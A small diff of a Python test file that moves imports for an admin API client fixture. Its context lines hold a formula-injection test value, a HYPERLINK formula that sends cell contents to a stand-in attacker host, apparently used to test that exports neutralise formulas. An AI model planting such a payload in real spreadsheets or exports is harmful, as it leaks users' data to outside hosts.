@@ -13,8 +13,8 @@ import pytest
 from litestar.testing import TestClient
 
 from orchestration.home import Home
-from tests.api.conftest import ADMIN, api_client
 from tests.api.snapshot_fixture import Fixture, make_fixture, publish, write_snapshot
+from tests.support.api_clients import ADMIN, api_client
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
